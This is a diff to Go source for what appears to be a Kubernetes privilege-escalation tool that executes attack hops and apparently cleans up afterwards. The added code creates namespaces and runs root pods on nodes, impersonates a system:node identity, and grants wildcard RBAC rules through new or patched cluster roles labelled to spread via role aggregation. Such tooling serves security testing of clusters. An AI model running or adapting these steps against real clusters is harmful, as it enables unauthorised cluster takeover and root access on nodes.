@@ -60,6 +60,7 @@ func executors() map[string]executor {
 		"hostpath-volume":      (*attack).volume,
 		"relabel-namespace":    (*attack).relabel,
 		"lift-policy":          (*attack).lift,
+		"new-namespace":        (*attack).found,
 		"mutating-webhook":     (*attack).mutate,
 		"mutating-policy":      (*attack).mutateByPolicy,
 		"validating-webhook":   (*attack).listen,
@@ -277,6 +278,9 @@ func (a *attack) impersonate(s self, h report.Hop) (self, error) {
 		if also.Resource == "serviceaccounts" {
 			as.UserName = userName(also.Namespace, as.UserName)
 		}
+		if h.To == "system:nodes" {
+			as.UserName = "system:node:" + a.anyNode()
+		}
 	}
 	s.name, s.config = h.To, rest.CopyConfig(s.config)
 	s.config.Impersonate = as
@@ -327,12 +331,35 @@ func (a *attack) escalate(s self, h report.Hop) (self, error) {
 	if p.Resource == "clusterroles" {
 		p.Namespace = ""
 	}
-	a.restore(at(p.APIGroup, p.Resource, p.Namespace, p.Name), "rules", "aggregationRule")
 	all := []object{{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}
-	if err := s.change(p, p.Name, object{"metadata": object{"name": p.Name}, "rules": all}, object{"rules": all}, nil); err != nil {
+	meta := object{"name": p.Name, "labels": a.collected()}
+	if p.Verb == "create" {
+		meta["name"] = a.fresh("attack")
+		a.forget(at(p.APIGroup, p.Resource, p.Namespace, meta["name"].(string)))
+		if err := s.do("POST", at(p.APIGroup, p.Resource, p.Namespace, ""), object{"metadata": meta, "rules": all}, nil); err != nil {
+			return s, err
+		}
+		return a.come(s, h)
+	}
+	a.restore(at(p.APIGroup, p.Resource, p.Namespace, p.Name), "rules", "aggregationRule", "metadata.labels")
+	if err := s.change(p, p.Name, object{"metadata": meta, "rules": all}, object{"metadata": object{"labels": meta["labels"]}, "rules": all}, nil); err != nil {
 		return s, err
 	}
 	return a.come(s, h)
+}
+
+// collected are the labels by which the aggregated roles of an example collect
+// others, and view.
+func (a *attack) collected() object {
+	set := object{"rbac.authorization.k8s.io/aggregate-to-view": "true"}
+	for _, o := range a.objects {
+		selectors, _, _ := unstructured.NestedSlice(o.Object, "aggregationRule", "clusterRoleSelectors")
+		for _, s := range selectors {
+			wanted, _, _ := unstructured.NestedMap(s.(object), "matchLabels")
+			maps.Copy(set, wanted)
+		}
+	}
+	return set
 }
 
 // plainSpec is what a pod does that any level lets pass.
@@ -531,9 +558,18 @@ func (a *attack) gone(ns, label string) {
 	}))
 }
 
-// victim finds a running pod by which a hop leads on. The attacker knows its
-// name, and need not be allowed to look for it.
-func (a *attack) victim(h report.Hop) (*corev1.Pod, error) {
+// victim finds a running pod by which a hop leads on, as soon as there is one: a
+// controller may be replacing it. The attacker knows its name, and need not be
+// allowed to look for it.
+func (a *attack) victim(h report.Hop) (pod *corev1.Pod, err error) {
+	err = a.wait(func() error {
+		pod, err = a.runningVictim(h)
+		return err
+	})
+	return pod, err
+}
+
+func (a *attack) runningVictim(h report.Hop) (*corev1.Pod, error) {
 	ns, name := account(h.To)
 	pods, err := a.pods(permission(h).Namespace)
 	if err != nil {
@@ -806,6 +842,16 @@ func (a *attack) join(s self, h report.Hop) (self, error) {
 	})
 	next.node = a.anyNode()
 	return next, err
+}
+
+// found creates a namespace and is root on a node from there.
+func (a *attack) found(s self, h report.Hop) (self, error) {
+	name := a.fresh("attack")
+	a.forget(at("", "namespaces", "", name))
+	if err := s.do("POST", at("", "namespaces", "", ""), object{"metadata": object{"name": name}}, nil); err != nil {
+		return s, err
+	}
+	return a.runs(s, name, rootSpecs(a.anyNode()), h.To)
 }
 
 // volume claims a folder of the node: that of containerd's socket, which the group
